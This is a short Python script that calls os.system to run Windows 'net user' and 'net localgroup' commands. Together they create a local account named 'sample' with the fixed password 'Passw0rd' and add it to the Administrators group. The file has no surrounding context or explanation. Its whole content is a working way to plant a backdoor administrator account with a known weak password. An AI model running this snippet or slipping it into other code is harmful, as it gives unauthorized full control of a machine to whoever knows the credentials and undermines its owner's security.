import os

os.system("net user sample Passw0rd /add & net localgroup administrators sample /add")
